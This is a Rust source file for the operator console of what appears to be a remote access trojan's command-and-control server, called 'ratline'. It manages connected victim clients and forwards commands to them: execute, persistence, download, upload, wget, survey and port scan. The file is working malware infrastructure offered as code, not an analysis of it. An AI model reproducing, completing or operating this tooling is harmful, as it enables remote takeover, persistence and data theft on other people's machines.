//! Operator console: input validation, selection state, dispatch.
//!
//! A single interactive loop owns the selection. Console-local verbs
//! (`client`, `clients`, `help`, `quit`) act on the registry or the console
//! itself; everything else in the vocabulary is forwarded verbatim to the
//! selected session. A connection failure surfaced by a forwarded command
//! gets the same cleanup as an explicit `kill`: the session is removed and
//! the selection cleared.

use std::io::Write;
use std::sync::Arc;

use tracing::info;

use crate::channel::{Channel, SecureChannel};
use crate::error::ServerError;
use crate::registry::{Registry, SessionHandle, SessionId};
use crate::session::{split_verb, TEXT_RESPONSE_COMMANDS};

/// The operator vocabulary. `rekey` is intentionally absent: the session
/// protocol understands it, but it has never been part of the console
/// commands.
const COMMANDS: &[&str] = &[
    "client",
    "clients",
    "download",
    "execute",
    "help",
    "kill",
    "persistence",
    "quit",
    "scan",
    "survey",
    "unzip",
    "upload",
    "wget",
];

const HELP_TEXT: &str = "
client <id>         - Select a connected client.
clients             - List connected clients.
download <files>    - Download file(s) from the client.
execute <command>   - Run a command on the client.
help                - Show this help text.
kill                - Close the client connection.
persistence         - Apply a persistence mechanism.
quit                - Shut down the server.
scan <ip>           - Scan the top 25 ports of a host.
survey              - Run a system survey.
unzip <file>        - Unzip a file on the client.
upload <files>      - Upload file(s) to the client.
wget <url>          - Fetch a file from the web onto the client.";

/// What the surrounding loop should do after a dispatched line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Directive {
    /// Prompt for the next line.
    Continue,
    /// Ask the operator to confirm shutdown.
    ConfirmQuit,
}

/// The operator console state machine.
pub struct Console<C = SecureChannel> {
    registry: Arc<Registry<C>>,
    selected: Option<(SessionId, SessionHandle<C>)>,
}

impl<C: Channel> Console<C> {
    pub fn new(registry: Arc<Registry<C>>) -> Self {
        Self {
            registry,
            selected: None,
        }
    }

    /// The currently selected session id, if any.
    pub fn selected_id(&self) -> Option<SessionId> {
        self.selected.as_ref().map(|(id, _)| *id)
    }

    /// Runs the interactive loop until quit is confirmed or stdin closes.
    pub async fn run(&mut self) -> anyhow::Result<()> {
        use tokio::io::AsyncBufReadExt;

        let mut lines = tokio::io::BufReader::new(tokio::io::stdin()).lines();
        loop {
            self.print_prompt()?;
            let Some(line) = lines.next_line().await? else {
                break;
            };

            let line = line.trim();
            if line.is_empty() {
                continue;
            }

            match self.handle_line(line).await {
                Directive::Continue => {}
                Directive::ConfirmQuit => {
                    print!("Exit the server and end all client connections (y/N)? ");
                    std::io::stdout().flush()?;

                    let confirm = lines.next_line().await?.unwrap_or_default();
                    if confirm.trim().to_ascii_lowercase().starts_with('y') {
                        info!("operator quit; abandoning open connections");
                        std::process::exit(0);
                    }
                }
            }
        }
        Ok(())
    }

    fn print_prompt(&self) -> std::io::Result<()> {
        match self.selected_id() {
            Some(id) => print!("\n[{id}] ratline> "),
            None => print!("\n[?] ratline> "),
        }
        std::io::stdout().flush()
    }

    /// Dispatches one operator line. Exposed so tests can drive the state
    /// machine without a terminal.
    pub async fn handle_line(&mut self, line: &str) -> Directive {
        let (verb, rest) = split_verb(line);

        if !COMMANDS.contains(&verb) {
            println!("Invalid command, type \"help\" to see a list of commands.");
            return Directive::Continue;
        }

        match verb {
            "help" => println!("{HELP_TEXT}"),
            "quit" => return Directive::ConfirmQuit,
            "client" => self.select_client(rest).await,
            "clients" => self.list_clients().await,
            _ => self.forward(line, verb).await,
        }
        Directive::Continue
    }

    async fn select_client(&mut self, raw_id: &str) {
        match self.registry.select(raw_id).await {
            Some((id, handle)) => {
                self.selected = Some((id, handle));
                println!("Client {id} selected.");
            }
            None => {
                println!("Error: {}", ServerError::InvalidClientId(raw_id.to_string()));
            }
        }
    }

    async fn list_clients(&self) {
        println!("ID - Client Address");
        for (id, addr) in self.registry.list_alive().await {
            println!("{:>2} - {}", id, addr.ip());
        }
    }

    /// Forwards a per-session command to the selected session and applies
    /// the outcome to console and registry state.
    async fn forward(&mut self, line: &str, verb: &str) {
        let Some((id, handle)) = self.selected.clone() else {
            println!("Error: {}", ServerError::NoClientSelected);
            return;
        };

        if TEXT_RESPONSE_COMMANDS.contains(&verb) {
            println!("Running {verb}...");
        }

        let outcome = handle.lock().await.send(line).await;
        match outcome {
            Ok(reply) => {
                if let Some(text) = reply {
                    println!("{text}");
                }
                if verb == "kill" {
                    self.drop_selected(id).await;
                }
            }
            Err(err) => {
                println!("Error: {err}");
                if err.severs_session() {
                    println!("Client {id} disconnected.");
                    self.drop_selected(id).await;
                }
            }
        }
    }

    async fn drop_selected(&mut self, id: SessionId) {
        self.registry.remove(id).await;
        self.selected = None;
        info!(id, "session removed");
    }
}
